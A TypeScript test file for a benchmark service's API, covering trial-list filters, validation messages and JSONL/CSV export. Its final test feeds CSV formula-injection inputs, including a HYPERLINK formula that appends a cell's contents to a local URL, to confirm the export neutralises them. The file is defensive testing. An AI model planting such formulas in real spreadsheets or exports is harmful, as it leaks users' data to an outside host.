import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { parse } from "csv-parse/sync";
import type { Trial } from "../../../../src/domain/benchmarks/trial.ts";
import type { Page } from "../../../../src/domain/page.ts";
import { type Refusal, runBenchmark, trialsOf, uploadDataset } from "../../../support/benchmarks.ts";
import { startServer, type TestServer } from "../../../support/server/index.ts";

let server: TestServer;
let id: string;
let all: Trial[];

const PROVIDERS = [
  { provider: "baseline", model: "random" },
  { provider: "baseline", model: "first", label: "the first" },
  { provider: "mock", model: "mock?error_rate=0.3&error=401&seed=1", label: "failing" },
];

beforeAll(async () => {
  server = await startServer();
  const request = { providers: PROVIDERS, metrics: ["accuracy", "latency"], iterations: 150 };
  id = (await runBenchmark(server, request)).benchmark_id;
  all = await trialsOf(server, id);
});
afterAll(() => server.stop());

const read = <Body = Page<Trial>>(query: string, of = id) =>
  server.request<Body>("GET", `/v1/benchmarks/${of}/trials?page_size=100&${query}`, { token: server.token });

async function filtered(query: string): Promise<Trial[]> {
  const items: Trial[] = [];
  for (let page = 1; ; page++) {
    const { status, body } = await read(`page=${page}&${query}`);
    if (status !== 200) throw new Error(`${query} answered ${status}`);
    items.push(...body.items);
    if (page >= body.total_pages) {
      expect(body.total).toBe(items.length);
      return items;
    }
  }
}

const isRight = ({ scores }: Trial): boolean => scores.accuracy === 1;
const isWrong = ({ scores }: Trial): boolean => scores.accuracy === 0;
const asked = ({ sample_id, repeat }: Trial): string => `${sample_id} ${repeat}`;

function disputedOnes(): Trial[] {
  const right = new Set(all.filter(isRight).map(asked));
  const wrong = new Set(all.filter(isWrong).map(asked));
  return all.filter((trial) => right.has(asked(trial)) && wrong.has(asked(trial)));
}

describe("the list of trials", () => {
  const filters: [query: string, lets: (trial: Trial) => boolean][] = [
    ["outcome=provider_error", ({ outcome }) => outcome === "provider_error"],
    ["correct=true", isRight],
    ["correct=false", isWrong],
    ["metric=accuracy&correct=true", isRight],
    ["run=the%20first", ({ run }) => run === "the first"],
    ["run=baseline/random&correct=true", (trial) => trial.run === "baseline/random" && isRight(trial)],
    ["group=geography", ({ group }) => group === "geography"],
  ];

  test.each(filters)("lets through by %s", async (query, lets) => {
    const expected = all.filter(lets);
    expect(expected.length).toBeGreaterThan(0);
    expect(await filtered(query)).toEqual(expected);
  });

  test("is empty if no trial has the outcome", async () => {
    expect(await filtered("outcome=refused")).toEqual([]);
  });

  test("says each sample's group", () => {
    expect(new Set(all.map(({ group }) => group)).size).toBe(10);
  });

  test("finds the samples that runs disagree on, and those they agree on", async () => {
    const disputed = disputedOnes();
    expect(disputed.length).toBeGreaterThan(30);
    expect(disputed.length).toBeLessThan(all.length - 30);
    expect(await filtered("disagree=true")).toEqual(disputed);
    expect(await filtered("disagree=false")).toEqual(all.filter((trial) => !disputed.includes(trial)));
    const wrong = disputed.filter((trial) => trial.run === "the first" && isWrong(trial));
    expect(await filtered("disagree=true&run=the%20first&correct=false")).toEqual(wrong);
  });

  test("of a benchmark without such a metric has no correct or wrong trials", async () => {
    const { benchmark_id } = await runBenchmark(server, { metrics: ["latency"], iterations: 3 });
    const { status, body } = await read<Refusal>("correct=true", benchmark_id);
    expect(status).toBe(400);
    expect(body.error.message).toBe(
      "correct: no metric of the benchmark has the range 0 to 1, so no trial is correct or wrong",
    );
    expect((await read("outcome=scored", benchmark_id)).body.total).toBe(3);
  });

  const refused: [query: string, field: string, fault: RegExp][] = [
    ["run=the%20frist", "run", /unknown run 'the frist'. Did you mean 'the first'/],
    [
      "group=geograhpy",
      "group",
      /unknown group 'geograhpy' among the benchmark's trials. Did you mean 'geography'/,
    ],
    ["metric=latency&correct=true", "metric", /unknown metric 'latency' among those with the range 0 to 1/],
    ["outcome=fine", "outcome", /must be one of scored, unparseable/],
    ["correct=yes", "correct", /must be one of true, false/],
    ["sort=run", "sort", /is not a known field/],
    ["page=0", "page", /must be from 1/],
  ];

  test.each(refused)("refuses %s", async (query, field, fault) => {
    const { status, body } = await read<Refusal>(query);
    expect({ status, code: body.error.code, field: body.error.details.field }).toEqual({
      status: 400,
      code: "BAD_REQUEST",
      field,
    });
    expect(body.error.message).toMatch(fault);
  });

  test("names the groups there are; one of the dataset's that was not drawn is empty, not unknown", async () => {
    const groups = [...new Set(all.map(({ group }) => group))].sort();
    expect((await read<Refusal>("group=nowhere")).body.error.details).toMatchObject({ accepted: groups });
    const { benchmark_id } = await runBenchmark(server, { iterations: 1 });
    const [trial] = await trialsOf(server, benchmark_id);
    const other = groups.find((group) => group !== trial?.group);
    const { status, body } = await read(`group=${other}`, benchmark_id);
    expect([status, body.total]).toEqual([200, 0]);
    expect((await read("group=nowhere", benchmark_id)).status).toBe(400);
  });

  test("of a benchmark that goes on grows with it", async () => {
    const { body } = await server.request<{ benchmark_id: string }>("POST", "/v1/benchmarks", {
      token: server.token,
      body: {
        name: "slow",
        dataset: "starter",
        metrics: ["accuracy"],
        providers: [{ provider: "mock", model: "mock?latency_ms=50" }],
      },
    });
    const { status } = await read("outcome=scored", body.benchmark_id);
    expect(status).toBe(200);
    for (let total = 0; total === 0; ) total = (await read("", body.benchmark_id)).body.total;
  });
});

describe("the export", () => {
  const exported = (query: string) =>
    server.request<string>("GET", `/v1/benchmarks/${id}/export${query}`, { token: server.token });

  test("is a trial a line, as the list has them", async () => {
    const { headers, body } = await exported("");
    expect(headers.get("content-type")).toBe("application/jsonl; charset=utf-8");
    expect(headers.get("content-disposition")).toBe(`attachment; filename="benchmark-${id}.jsonl"`);
    const lines = body.trimEnd().split("\n");
    expect(lines.map((line) => JSON.parse(line))).toEqual(all);
  });

  test("as CSV has a column a field and a metric, and quotes what needs it", async () => {
    const { headers, body } = await exported("?format=csv");
    expect(headers.get("content-type")).toStartWith("text/csv");
    const rows = parse<Record<string, string>>(body, { columns: true });
    expect(rows.map(({ run, sample_id }) => [run, sample_id])).toEqual(
      all.map(({ run, sample_id }) => [run, sample_id]),
    );
    const given = (value: unknown): string => (value === null || value === undefined ? "" : String(value));
    expect(rows.map((row) => [row["scores.accuracy"], row.output, row.error, row.total_tokens])).toEqual(
      all.map(({ scores, output, error, usage }) =>
        [scores.accuracy, output, error, usage?.total_tokens].map(given),
      ),
    );
    const nested = { scores: ["scores.accuracy"], notes: ["notes.accuracy"], usage: ["total_tokens"] };
    const owed = { judge_usage: ["judge.total_tokens"], embedding_usage: ["embedding.total_tokens"] };
    const fields = Object.keys(all[0] ?? {}).flatMap((field) => ({ ...nested, ...owed })[field] ?? [field]);
    expect(Object.keys(rows[0] ?? {})).toEqual(expect.arrayContaining(fields));
  });

  test("takes the filters of the list", async () => {
    const { body } = await exported("?run=the%20first&correct=true");
    const wanted = all.filter((trial) => trial.run === "the first" && isRight(trial));
    expect(body.trimEnd().split("\n")).toEqual(wanted.map((trial) => JSON.stringify(trial)));
    expect((await exported("?group=nowhere")).status).toBe(400);
    expect((await exported("?format=xml")).status).toBe(400);
  });

  test("keeps commas, quotes, line ends and other scripts", async () => {
    const input = 'a "quoted", text\nof two lines; 東京, =1+1';
    const dataset = await uploadDataset(server, "texts", [{ input, expected: input }]);
    const { benchmark_id } = await runBenchmark(server, {
      dataset,
      providers: [{ provider: "baseline", model: "echo" }],
    });
    const { body } = await server.request<string>("GET", `/v1/benchmarks/${benchmark_id}/export?format=csv`, {
      token: server.token,
    });
    expect(parse<Record<string, string>>(body, { columns: true })[0]?.output).toContain(input);
  });

  test("as CSV disarms text that is a formula to a spreadsheet, leaves figures alone, and JSONL as it is", async () => {
    const formulas = [
      '=HYPERLINK("http://127.0.0.1/?"&A1)',
      "+1+1",
      "-2+3",
      "@SUM(A1)",
      "\t=1",
      "\r=1",
      "- a list",
    ];
    const figures = ["-1.5", "+7", "-1,000", "-2e-3", "-50%", "'quoted'", "1-1"];
    const texts = [...formulas, ...figures];
    const dataset = await uploadDataset(
      server,
      "formulas",
      texts.map((input, index) => ({ input, expected: "4", group: `${input} of ${index}` })),
    );
    const { benchmark_id } = await runBenchmark(server, {
      dataset,
      providers: [{ provider: "baseline", model: "echo", params: { prompt_template: "{{input}}" } }],
      metrics: ["accuracy", "latency"],
    });
    const exportedAs = async (format: string) =>
      (
        await server.request<string>("GET", `/v1/benchmarks/${benchmark_id}/export?format=${format}`, {
          token: server.token,
        })
      ).body;
    const rows = parse<Record<string, string>>(await exportedAs("csv"), { columns: true });
    const guarded = formulas.map((text) => `'${text}`);
    expect(rows.map(({ output }) => output).sort()).toEqual([...guarded, ...figures].sort());
    expect(rows.filter(({ group = "" }) => group.startsWith("'=")).length).toBe(1);
    for (const row of rows) expect(row.latency_ms).toMatch(/^\d/);
    const lines = (await exportedAs("jsonl")).trimEnd().split("\n");
    expect(lines.map((line) => (JSON.parse(line) as Trial).output ?? "").sort()).toEqual(texts.sort());
  });
});
